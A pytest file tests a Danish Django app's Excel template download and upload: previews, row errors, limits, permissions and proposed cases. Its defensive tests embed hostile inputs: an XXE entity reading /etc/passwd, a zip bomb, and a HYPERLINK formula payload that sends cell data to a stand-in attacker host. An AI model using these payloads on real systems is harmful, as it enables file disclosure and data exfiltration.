"""Contributions through Excel: a template, a preview with Danish errors, all or nothing."""

import io
import re
import zipfile

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from contributions.excel import CASE_HEADERS, CASE_SHEET, HEADERS
from contributions.models import ProposedCase
from initiatives.models import Measure
from tests.builders import workbook

pytestmark = pytest.mark.django_db


def upload(client, rh, content, name="bidrag.xlsx"):
    return client.post(
        f"/bidrag/{rh.pk}/excel/indlaes/", {"fil": SimpleUploadedFile(name, content)}
    )


def filled_rows(rh, category="Følger tidsplanen", wording="Følger tidsplanen"):
    return [[item.measure_id, "", "", category, wording, "Tekst"] for item in rh.items.all()]


def test_the_template_holds_every_measure_of_the_contribution(client, editor_rh, rh):
    client.force_login(editor_rh)
    response = client.get(f"/bidrag/{rh.pk}/excel/")
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    rows = list(sheet.iter_rows(values_only=True))
    assert list(rows[0]) == HEADERS
    assert sorted(r[0] for r in rows[1:]) == sorted(rh.items.values_list("measure_id", flat=True))
    assert sheet.data_validations.dataValidation, "a drop-down of the status categories"


def test_a_valid_upload_is_previewed_then_applied(client, editor_rh, rh):
    client.force_login(editor_rh)
    response = upload(client, rh, workbook(filled_rows(rh)))
    assert response.status_code == 200 and "Anvend alle rækker" in response.content.decode()
    assert not rh.items.exclude(category="").exists(), "nothing is saved by the preview"
    response = client.post(f"/bidrag/{rh.pk}/excel/anvend/")
    assert response.status_code == 302
    assert set(rh.items.values_list("category", "wording")) == {("on_track", "Følger tidsplanen")}
    assert rh.events.last().comment == "Fra en Excel-indlæsning"


def test_every_row_error_is_listed_in_danish_and_nothing_changes(client, editor_rh, rh):
    client.force_login(editor_rh)
    other = Measure.objects.get(title="Kræftpatientoverblik (KPO)")
    rows = filled_rows(rh)
    rows[0][3] = "Næsten færdig"
    rows[1][4] = ""
    rows += [
        [999999, "", "", "Afsluttet", "x", ""],
        [other.pk, "", "", "Afsluttet", "x", ""],
        ["abc", "", "", "", "", ""],
    ]
    response = upload(client, rh, workbook(rows))
    assert response.status_code == 400
    page = response.content.decode()
    for message in [
        "Ugyldig statuskategori: Næsten færdig.",
        "Ordlyden er tom.",
        "Ukendt indsats: 999999.",
        "Indsatsen er ikke en af dem, jeres organisation rapporterer om.",
        "Indsats-id skal være et helt tal skrevet med cifre, fx 12, ikke „abc“.",
        "Statuskategorien er tom.",
    ]:
        assert message in page
    assert "Anvend alle rækker" not in page
    assert client.post(f"/bidrag/{rh.pk}/excel/anvend/").status_code == 302
    assert not rh.items.exclude(category="").exists()


def test_texts_longer_than_the_forms_allow_get_a_row_error_with_the_count(client, editor_rh, rh):
    client.force_login(editor_rh)
    rows = filled_rows(rh)
    rows[0][4] = "o" * 501
    rows[1][5] = "b" * 10_001
    rows[2][4] = "o" * 500  # just within the limit
    rows[2][5] = "b" * 10_000
    cases = [[rows[0][0], "", "Titel", "t" * 10_002]]
    response = upload(client, rh, workbook(rows, cases=cases))
    assert response.status_code == 400
    page = response.content.decode()
    assert "Ordlyden er for lang. Højst 500 tegn – du har skrevet 501." in page
    assert "Beskrivelsen er for lang. Højst 10.000 tegn – du har skrevet 10.001." in page
    assert "Casens tekst er for lang. Højst 10.000 tegn – du har skrevet 10.002." in page
    assert page.count("for lang.") == 3
    assert not rh.items.exclude(category="").exists()


def test_the_preview_names_the_organisation_initiatives_measures_and_categories(
    client, editor_rh, rh
):
    client.force_login(editor_rh)
    item = rh.items.select_related("measure__initiative").first()
    measure = item.measure
    rows = filled_rows(rh, category="Afsluttet")
    cases = [[measure.pk, "", "En case", "Tekst"], [999999, "", "Ukendt", "Tekst"]]
    page = upload(client, rh, workbook(rows, cases=cases)).content.decode()
    status_table, case_table = page.split("<table")[1:3]
    assert "Region Hovedstaden" in page
    for table in (status_table, case_table):
        assert f"<td>{measure.initiative.number}. {measure.initiative.title}</td>" in table
        assert f"<td>{measure.title}</td>" in table
        assert f"<td>{measure.pk}</td>" not in table, "no ids"
    assert "<td>Afsluttet</td>" in status_table and "completed" not in status_table
    assert "<td>Ukendt indsats</td>" in case_table


@pytest.mark.parametrize("typed", ["12,5", "12.5", "abc", "-3"])
def test_a_measure_id_that_is_no_whole_number_gets_a_danish_row_error(client, editor_rh, rh, typed):
    client.force_login(editor_rh)
    rows = filled_rows(rh)
    rows[0][0] = typed
    response = upload(client, rh, workbook(rows))
    assert response.status_code == 400
    message = f"Indsats-id skal være et helt tal skrevet med cifre, fx 12, ikke „{typed}“."
    assert message in response.content.decode()


def test_numbers_come_back_as_they_were_typed_in_a_danish_sheet(client, editor_rh, rh):
    """Excel keeps "2,5" typed into a cell as the number 2.5, and a whole number may be kept as
    12.0; an id typed as text with spaces is read too."""
    client.force_login(editor_rh)
    rows = filled_rows(rh)
    rows[0][4] = 2.5
    rows[1][0] = f" {rows[1][0]} "
    content = workbook(rows)
    source = zipfile.ZipFile(io.BytesIO(content))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as target:
        for info in source.infolist():
            body = source.read(info.filename)
            if info.filename == "xl/worksheets/sheet1.xml":
                # The first row's id (cell A2) as Excel may keep it: <v>12.0</v>.
                body, n = re.subn(rb'(<c r="A2"[^>]*><v>)(\d+)(</v>)', rb"\1\2.0\3", body)
                assert n == 1
            target.writestr(info, body)
    response = upload(client, rh, out.getvalue())
    assert response.status_code == 200, response.content.decode()
    assert client.post(f"/bidrag/{rh.pk}/excel/anvend/").status_code == 302
    assert rh.items.get(measure_id=rows[0][0]).wording == "2,5"


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (b"not a workbook at all", "Filen er ikke en Excel-projektmappe"),
        (
            workbook([], headers=["Noget", "andet"]),
            "Første række i arket Sheet skal være skabelonens overskrifter",
        ),
        (workbook([]), "Projektmappen har ingen rækker."),
    ],
)
def test_unusable_files_are_refused_in_danish(client, editor_rh, rh, content, message):
    client.force_login(editor_rh)
    response = upload(client, rh, content)
    assert response.status_code == 400 and message in response.content.decode()


def test_a_zip_bomb_is_refused_before_it_is_read(client, editor_rh, rh):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/sharedStrings.xml", b"0" * (25 * 1024 * 1024))
    client.force_login(editor_rh)
    response = upload(client, rh, out.getvalue())
    assert len(out.getvalue()) < 200_000
    assert "pakkes ud til mere end 20 MB" in response.content.decode()


def test_too_large_and_too_many_rows_are_refused(client, editor_rh, rh):
    client.force_login(editor_rh)
    response = upload(client, rh, b"0" * (2 * 1024 * 1024 + 1))
    assert "større end 2 MB" in response.content.decode()
    many = [[rh.items.first().measure_id, "", "", "Afsluttet", "x", ""]] * 1001
    assert "mere end 1000 rækker" in upload(client, rh, workbook(many)).content.decode()


def test_xml_entities_are_not_expanded(client, editor_rh, rh):
    data = workbook(filled_rows(rh))
    source = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as target:
        for info in source.infolist():
            body = source.read(info.filename)
            if info.filename == "xl/worksheets/sheet1.xml":
                body = body.replace(
                    b"<worksheet",
                    b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><worksheet',
                    1,
                )
            target.writestr(info, body)
    client.force_login(editor_rh)
    response = upload(client, rh, out.getvalue())
    assert "root:" not in response.content.decode()
    assert response.status_code == 400


def test_read_only_members_and_other_organisations_cannot_upload(client, reader, editor_kl, rh):
    client.force_login(reader)
    assert upload(client, rh, workbook(filled_rows(rh))).status_code == 403
    client.force_login(editor_kl)
    assert upload(client, rh, workbook(filled_rows(rh))).status_code == 404


def test_a_change_between_preview_and_apply_applies_nothing(client, editor_rh, rh):
    client.force_login(editor_rh)
    upload(client, rh, workbook(filled_rows(rh)))
    rh.general_comment = "Ændret i mellemtiden"
    rh.revision += 1
    rh.save()
    response = client.post(f"/bidrag/{rh.pk}/excel/anvend/", follow=True)
    assert "Intet blev anvendt" in response.content.decode()
    assert not rh.items.exclude(category="").exists()


class TestCases:
    def test_the_template_has_a_sheet_with_the_proposed_cases(self, client, editor_rh, rh):
        item = rh.items.select_related("measure__initiative").first()
        ProposedCase.objects.create(item=item, title="Hurtig udredning", text="Det virkede.")
        client.force_login(editor_rh)
        book = openpyxl.load_workbook(io.BytesIO(client.get(f"/bidrag/{rh.pk}/excel/").content))
        rows = list(book[CASE_SHEET].iter_rows(values_only=True))
        assert rows == [
            tuple(CASE_HEADERS),
            (item.measure_id, str(item.measure), "Hurtig udredning", "Det virkede."),
        ]

    def test_the_case_sheet_replaces_the_proposed_cases(self, client, editor_rh, rh):
        first, second = rh.items.all()[:2]
        ProposedCase.objects.create(item=first, title="Gammel", text="Forsvinder")
        client.force_login(editor_rh)
        cases = [
            [first.measure_id, "", "Ny case", "Tekst 1"],
            [second.measure_id, "", "Endnu en", "Tekst 2"],
        ]
        response = upload(client, rh, workbook(filled_rows(rh), cases=cases))
        page = response.content.decode()
        assert response.status_code == 200
        assert "Arket Cases erstatter bidragets 1 foreslåede case." in page
        assert ProposedCase.objects.get().title == "Gammel", "nothing is saved by the preview"
        assert client.post(f"/bidrag/{rh.pk}/excel/anvend/").status_code == 302
        assert set(ProposedCase.objects.values_list("item", "title", "text")) == {
            (first.pk, "Ny case", "Tekst 1"),
            (second.pk, "Endnu en", "Tekst 2"),
        }

    def test_a_workbook_without_the_sheet_leaves_the_cases(self, client, editor_rh, rh):
        ProposedCase.objects.create(item=rh.items.first(), title="Bliver", text="Tekst")
        client.force_login(editor_rh)
        response = upload(client, rh, workbook(filled_rows(rh)))
        assert "Projektmappen har intet ark Cases" in response.content.decode()
        client.post(f"/bidrag/{rh.pk}/excel/anvend/")
        assert list(ProposedCase.objects.values_list("title", flat=True)) == ["Bliver"]

    def test_every_case_error_is_listed_and_nothing_changes(self, client, editor_rh, rh):
        item = rh.items.first()
        other = Measure.objects.get(title="Kræftpatientoverblik (KPO)")
        client.force_login(editor_rh)
        cases = [
            [999999, "", "Titel", "Tekst"],
            [other.pk, "", "Titel", "Tekst"],
            [item.measure_id, "", "", "Tekst"],
            [item.measure_id, "", "Titel", ""],
            [item.measure_id, "", "x" * 301, "Tekst"],
            *[[item.measure_id, "", f"Case {n}", "Tekst"] for n in range(3)],
        ]
        response = upload(client, rh, workbook(filled_rows(rh), cases=cases))
        assert response.status_code == 400
        page = response.content.decode()
        for message in [
            "Ukendt indsats: 999999.",
            "Indsatsen er ikke en af dem, jeres organisation rapporterer om.",
            "Casens titel er tom.",
            "Casens tekst er tom.",
            "Casens titel er for lang. Højst 300 tegn – du har skrevet 301.",
            "Højst 5 cases pr. indsats.",
        ]:
            assert message in page
        client.post(f"/bidrag/{rh.pk}/excel/anvend/")
        assert not ProposedCase.objects.exists()
        assert not rh.items.exclude(category="").exists(), "the status rows are not applied"

    def test_a_wrong_heading_on_the_case_sheet_is_refused(self, client, editor_rh, rh):
        client.force_login(editor_rh)
        content = workbook(filled_rows(rh), cases=[])
        book = openpyxl.load_workbook(io.BytesIO(content))
        book[CASE_SHEET]["C1"] = "Overskrift"
        out = io.BytesIO()
        book.save(out)
        response = upload(client, rh, out.getvalue())
        assert response.status_code == 400
        assert "Første række i arket Cases skal være" in response.content.decode()


PAYLOAD = '=HYPERLINK("http://angriber.example/?"&A1,"Klik")'


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_template_never_holds_a_formula_and_reads_back_as_typed(client, editor_rh, rh, start):
    """Text a contributor typed (wording, narrative, a proposed case) that starts like a formula
    is text in the downloaded template, and comes back unchanged when uploaded."""
    text = start + PAYLOAD[1:]
    rh.items.update(category="on_track", wording="Følger tidsplanen")
    item = rh.items.first()
    item.category, item.wording, item.narrative = "on_track", text, text
    item.save()
    ProposedCase.objects.create(item=item, title=text[:200], text=text)
    client.force_login(editor_rh)
    content = client.get(f"/bidrag/{rh.pk}/excel/").content
    book = openpyxl.load_workbook(io.BytesIO(content))
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
    assert upload(client, rh, content).status_code == 200
    client.post(f"/bidrag/{rh.pk}/excel/anvend/")
    item.refresh_from_db()
    typed = text.strip()  # the upload strips the whitespace around a cell, a tab or CR too
    assert (item.wording, item.narrative) == (typed, typed)
    assert ProposedCase.objects.get(item=item).text == typed


def _rewrite(content, name, change):
    """The workbook with one of its XML parts changed."""
    source = zipfile.ZipFile(io.BytesIO(content))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as target:
        for info in source.infolist():
            data = source.read(info.filename)
            target.writestr(info, change(data) if info.filename == name else data)
    return out.getvalue()


def test_rows_beyond_the_declared_size_are_read(client, editor_rh, rh):
    rows = filled_rows(rh, wording="Fra en stor fil")
    content = _rewrite(
        workbook(rows),
        "xl/worksheets/sheet1.xml",
        lambda xml: re.sub(rb'ref="[^"]*"', b'ref="A1:F2"', xml, count=1),
    )
    client.force_login(editor_rh)
    response = upload(client, rh, content)
    assert response.status_code == 200
    client.post(f"/bidrag/{rh.pk}/excel/anvend/")
    assert set(rh.items.values_list("wording", flat=True)) == {"Fra en stor fil"}


@pytest.mark.parametrize(
    "change",
    [
        lambda xml: xml.replace(b"<sheetData>", b"<sheetData><row"),  # broken XML
        lambda xml: xml.replace(b"</worksheet>", b""),  # cut short
        lambda xml: b"",
    ],
)
def test_a_broken_sheet_is_refused_in_danish_and_changes_nothing(client, editor_rh, rh, change):
    content = _rewrite(workbook(filled_rows(rh)), "xl/worksheets/sheet1.xml", change)
    client.force_login(editor_rh)
    response = upload(client, rh, content)
    assert response.status_code == 400
    assert "Projektmappen kunne ikke læses" in response.content.decode()
    assert not rh.items.exclude(category="").exists()
